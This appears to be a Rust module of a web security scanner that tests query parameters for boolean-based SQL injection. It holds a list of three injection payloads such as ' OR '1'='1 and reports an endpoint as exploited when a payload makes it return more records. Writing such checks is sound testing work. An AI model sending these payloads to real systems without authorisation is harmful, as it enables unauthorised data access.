//! A condition that is always true in place of a value.

use super::Probing;
use crate::client::{ClientError, Probe};
use crate::ordinary::escape;
use crate::report::Outcome;

attack!("sql-boolean", SqlInjection, Code, "If I close the quote and add OR 1=1, does the query return everything?", run);

const PAYLOADS: [&str; 3] = ["' OR '1'='1", "zz' OR 1=1 -- ", "zz') OR ('1'='1"];

async fn run(p: Probing<'_>) -> Result<Outcome, ClientError> {
    let mut last = None;
    for (endpoint, name) in p.surface.queries().filter(|(e, _)| !e.html) {
        let probe = |value: &str| p.mine(Probe::get(format!("{}?{name}={}", endpoint.path, escape(value))));
        let (nothing, control) = p.send(&probe("zz-nobody-has-this-name")).await?;
        for payload in PAYLOADS {
            let (answer, exchange) = p.send(&probe(payload)).await?;
            let grew = count(&answer.text()) > count(&nothing.text());
            if answer.status.is_success() && nothing.status.is_success() && grew {
                let summary = format!("{name}={payload} returns {} entries, an unknown name {}", count(&answer.text()), count(&nothing.text()));
                return Ok(Outcome::exploited(summary, vec![control, exchange]));
            }
            last = Some(exchange);
        }
    }
    Ok(match last {
        Some(exchange) => Outcome::blocked("no condition changed what is returned", vec![exchange]),
        None => Outcome::not_applicable("no operation takes text in its query"),
    })
}

/// Entries of a JSON list.
fn count(text: &str) -> usize {
    serde_json::from_str::<Vec<serde_json::Value>>(text).map_or(0, |list| list.len())
}
